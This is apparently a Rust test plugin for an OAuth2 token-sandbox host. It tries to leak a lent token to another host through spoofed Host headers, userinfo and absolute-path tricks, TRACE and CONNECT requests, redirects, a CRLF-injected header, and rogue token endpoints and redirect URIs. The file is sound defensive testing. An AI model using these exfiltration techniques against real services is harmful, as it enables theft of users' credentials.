//! The thief: every way to a token that it knows.

use crate::Plugin;
use crate::bindings::exports::tokenwell::test_plugins::thief::{Attempt, Guest};
use crate::bindings::tokenwell::oauth2::connections::{
    Connection, discover_resource, parse_config, register_client,
};
use crate::bindings::tokenwell::oauth2::types::{AuthorizationOptions, Redirect};
use crate::bindings::tokenwell::test_plugins::types::Answer;
use crate::bindings::wasi::http::types::{Method, Scheme};
use crate::honest::{OF_ANY_AGE, open, told};
use crate::http::{self, Request};

impl Guest for Plugin {
    fn by_requests(api: String, elsewhere: String) -> Vec<Attempt> {
        let (host, port) = api.split_once(':').unwrap_or((&api, "80"));
        let shouted = format!("{}:{port}", host.to_ascii_uppercase());
        let dressed_up = format!("{api}@{elsewhere}");
        let with_user = format!("thief@{api}");
        let absolute = format!("http://{elsewhere}/steal");
        let double = format!("//{elsewhere}/steal");
        let mine = [("authorization", "Bearer mine"), ("cookie", "mine=1")];
        let attempts: &[(&str, Request<'_>)] = &[
            ("another origin", Request::get(&elsewhere, "/steal")),
            ("another port", Request::get(host, "/steal")),
            ("an echo", Request::get(&api, "/echo")),
            ("an echo in other letters", Request::get(&shouted, "/echo")),
            (
                "an echo of what is its own",
                Request {
                    headers: &mine,
                    ..Request::get(&api, "/echo")
                },
            ),
            (
                "an echo that is compressed",
                Request {
                    headers: &[("accept-encoding", "gzip, br")],
                    ..Request::get(&api, "/echo")
                },
            ),
            (
                "an echo in a trace",
                Request {
                    method: Method::Other("TRACE".to_owned()),
                    ..Request::get(&api, "/echo")
                },
            ),
            ("a redirect", Request::get(&api, "/redirect")),
            ("a user before the host", Request::get(&with_user, "/echo")),
            (
                "the API as the user of another host",
                Request::get(&dressed_up, "/steal"),
            ),
            ("an absolute path", Request::get(&api, &absolute)),
            ("a path with a host", Request::get(&api, &double)),
            (
                "another name in Host",
                Request {
                    headers: &[("host", &elsewhere)],
                    ..Request::get(&api, "/echo")
                },
            ),
            (
                "the API's name in Host",
                Request {
                    headers: &[("host", &api)],
                    ..Request::get(&elsewhere, "/steal")
                },
            ),
            (
                "a tunnel",
                Request {
                    method: Method::Connect,
                    ..Request::get(&elsewhere, "/")
                },
            ),
            (
                "another scheme",
                Request {
                    scheme: Scheme::Other("HTTP+UNIX".to_owned()),
                    ..Request::get(&api, "/echo")
                },
            ),
            (
                "https where http was granted",
                Request {
                    scheme: Scheme::Https,
                    ..Request::get(&api, "/echo")
                },
            ),
            (
                "a header in a header",
                Request {
                    headers: &[("x-a", "b\r\nx-forwarded-host: own")],
                    ..Request::get(&api, "/echo")
                },
            ),
        ];
        let mut tried: Vec<Attempt> = attempts
            .iter()
            .map(|(what, request)| Attempt {
                what: (*what).to_owned(),
                outcome: http::send(request).map(seen),
            })
            .collect();
        // Where it was sent on to, it goes by itself.
        let there = http::send(&Request::get(&api, "/redirect"))
            .ok()
            .and_then(|answer| {
                let location = answer
                    .headers
                    .into_iter()
                    .find(|(name, _)| name == "location")?;
                Some(location.1)
            });
        tried.push(Attempt {
            what: "where the redirect leads".to_owned(),
            outcome: match there.as_deref().and_then(|url| url.strip_prefix("http://")) {
                Some(rest) => {
                    let (authority, _) = rest.split_once('/').unwrap_or((rest, ""));
                    http::send(&Request::get(authority, "/steal")).map(seen)
                }
                None => Err("there was no redirect".to_owned()),
            },
        });
        tried
    }

    fn by_connections(lent: String, other: String, elsewhere: String) -> Vec<Attempt> {
        let mut tried = Vec::new();
        let mut attempt = |what: &str, outcome: Result<String, String>| {
            let what = what.to_owned();
            tried.push(Attempt { what, outcome });
        };
        attempt("another connection", open(&other).map(|_| given()));
        attempt(
            "a token endpoint of its own",
            open_with(
                &lent,
                &format!(
                    r#"{{"token_endpoint": "http://{elsewhere}/token", "client_id": "thief"}}"#
                ),
            )
            .map(|_| given()),
        );
        attempt(
            "a discovery by the host",
            discover_resource(&format!("http://{elsewhere}/steal")).map_err(told),
        );
        attempt(
            "a registration by the host",
            register_client(&format!("http://{elsewhere}"), "{}", None).map_err(told),
        );
        let connection = match open(&lent) {
            Ok(connection) => connection,
            Err(why) => {
                attempt("the connection itself", Err(why));
                return tried;
            }
        };
        let headers = |url: &str| {
            let headers = connection.authorization_headers("GET", url, &OF_ANY_AGE, None);
            headers.map(|_| given()).map_err(told)
        };
        attempt(
            "headers for elsewhere",
            headers(&format!("http://{elsewhere}/steal")),
        );
        attempt("headers for no URL", headers("steal"));
        attempt("the response", connection.response_json().map_err(told));
        let resolved = connection.resolve();
        attempt("the config", resolved.map(|_| given()).map_err(told));
        let options = AuthorizationOptions {
            redirect_uri: Some(format!("http://{elsewhere}/steal")),
            prompt: Vec::new(),
            login_hint: None,
            parameters: Vec::new(),
        };
        let begun = connection.begin_authorization(&options);
        attempt("an authorization", begun.map(|_| given()).map_err(told));
        let completed = connection
            .complete_authorization(&Redirect::Url(format!("http://{elsewhere}/?code=1")));
        attempt("the end of one", done(completed));
        let device = connection.begin_device_authorization();
        attempt("a device code", device.map(|_| given()).map_err(told));
        let polled = connection.poll_device_authorization();
        attempt("the user's answer", polled.map(|_| given()).map_err(told));
        let renewed = connection.refresh();
        attempt("a renewal", renewed.map(|_| given()).map_err(told));
        attempt("sealing anew", done(connection.reseal()));
        attempt("revoking", done(connection.revoke()));
        attempt("clearing", done(connection.clear()));
        tried
    }
}

fn open_with(name: &str, json: &str) -> Result<Connection, String> {
    let config = parse_config(json).map_err(|_| "that is no config")?;
    Connection::open(name, &config).map_err(told)
}

fn done(
    outcome: Result<(), crate::bindings::tokenwell::oauth2::types::Error>,
) -> Result<String, String> {
    outcome.map(|()| given()).map_err(told)
}

/// Where what was given is of no interest, since nothing should have been.
fn given() -> String {
    "it was given".to_owned()
}

/// All of an answer.
fn seen(answer: Answer) -> String {
    let mut seen = format!("{}\n", answer.status);
    for (name, value) in &answer.headers {
        seen.extend([name, ": ", value, "\n"]);
    }
    seen + &answer.body
}
